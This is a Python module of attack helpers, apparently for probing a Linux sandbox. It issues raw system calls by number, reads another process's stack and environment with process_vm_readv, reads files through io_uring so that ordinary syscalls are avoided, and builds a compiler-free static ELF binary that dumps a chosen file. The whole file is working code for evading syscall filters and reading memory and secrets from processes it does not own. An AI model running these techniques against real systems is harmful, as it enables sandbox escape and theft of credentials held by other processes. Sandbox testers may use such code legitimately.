"""What attacks written in Python share: system calls by name, and a static program that needs no compiler."""

import ctypes
import mmap
import os
import platform
import struct
from pathlib import Path

AT_FDCWD = -100
MACHINE = platform.machine()
# x86-64, aarch64
NUMBERS = {
    "openat": (257, 56), "openat2": (437, 437), "execveat": (322, 281), "unshare": (272, 97), "mount": (165, 40),
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
    "userfaultfd": (323, 282), "add_key": (248, 217), "name_to_handle_at": (303, 264), "personality": (135, 92),
    "renameat2": (316, 276), "io_uring_setup": (425, 425), "io_uring_enter": (426, 426),
}  # fmt: skip
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(name, *arguments):
    """A system call by its number; raises OSError."""
    number = NUMBERS[name][MACHINE == "aarch64"]
    words = [
        ctypes.c_long(word) if isinstance(word, int) else word.encode() if isinstance(word, str) else word
        for word in arguments
    ]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def bystander():
    """The pid of a process that is none of ours, by its command line."""
    wanted = os.environ["BYSTANDER"].encode()
    for entry in os.listdir("/proc"):
        try:
            if wanted in Path(f"/proc/{entry}/cmdline").read_bytes():
                return int(entry)
        except OSError:
            continue
    raise SystemExit("no such process")


def stack_of(pid):
    """Where the stack of a process is, with its environment at the end."""
    with Path(f"/proc/{pid}/maps").open() as maps:
        line = next(line for line in maps if "[stack]" in line)
    start, _, end = line.split()[0].partition("-")
    return int(start, 16), int(end, 16)


def vm_read(pid, address, size):
    here = ctypes.create_string_buffer(size)
    local = (ctypes.c_ulong * 2)(ctypes.addressof(here), size)
    remote = (ctypes.c_ulong * 2)(address, size)
    call("process_vm_readv", pid, local, 1, remote, 1, 0)
    return here.raw


def uring_read(path):
    """The file's content, read by io_uring: its descriptor comes from the ring, and so do the bytes."""
    params = (ctypes.c_uint * 30)()
    ring = call("io_uring_setup", 4, params)
    shared, both = mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE
    sq, cq, sqes = (mmap.mmap(ring, 4096, shared, both, offset=at) for at in (0, 0x8000000, 0x10000000))
    name, buffer = ctypes.create_string_buffer(path.encode()), ctypes.create_string_buffer(4096)
    tail, array = params[11], params[16]

    def submit(index, opcode, fd, address, length):
        sqes.seek(index * 64)
        sqes.write(struct.pack("<BBHiQQI", opcode, 0, 0, fd, 0, address, length).ljust(64, b"\0"))
        sq[array + 4 * index : array + 4 * index + 4] = struct.pack("<I", index)
        sq[tail : tail + 4] = struct.pack("<I", index + 1)
        call("io_uring_enter", ring, 1, 1, 1, None, 0)
        result = struct.unpack_from("<i", cq, params[25] + 16 * index + 8)[0]
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    opened = submit(0, 18, AT_FDCWD, ctypes.addressof(name), 0)
    length = submit(1, 22, opened, ctypes.addressof(buffer), 4096)
    return buffer.raw[:length].decode(errors="replace")


def static_reader(path):
    """The bytes of an ELF program that opens `path`, reads it and writes it out: no libc, no compiler to make it."""
    code = _code_aarch64() if MACHINE == "aarch64" else _code_x86()
    base, head = 0x400000, 64 + 56
    image = code + path.encode() + b"\0"
    machine = 183 if MACHINE == "aarch64" else 62
    elf = b"\x7fELF\2\1\1" + bytes(9)
    elf += struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, base + head, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = head + len(image)
    return elf + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000) + image


def _code_x86():
    """openat(AT_FDCWD, path, 0); read(fd, stack, 4096); write(1, stack, n); exit(0). The path follows the code."""
    before = bytes.fromhex("bf9cffffff 488d35")
    after = bytes.fromhex(
        "31d2 b801010000 0f05 89c7 4881ec00100000 4889e6 ba00100000 31c0 0f05"
        "89c2 4889e6 bf01000000 b801000000 0f05 b83c000000 31ff 0f05"
    )
    return before + struct.pack("<i", len(after)) + after


def _code_aarch64():
    words = [
        0x92800C60, 0, 0xD2800002, 0xD2800708, 0xD4000001, 0xD14007FF, 0x910003E1, 0xD2820002, 0xD28007E8, 0xD4000001,
        0xAA0003E2, 0xD2800020, 0x910003E1, 0xD2800808, 0xD4000001, 0xD2800000, 0xD2800BA8, 0xD4000001,
    ]  # fmt: skip
    offset = 4 * (len(words) - 1)  # from the second instruction, adr x1, to the path behind the last
    words[1] = 0x10000001 | (offset & 3) << 29 | (offset >> 2) << 5
    return struct.pack(f"<{len(words)}I", *words)
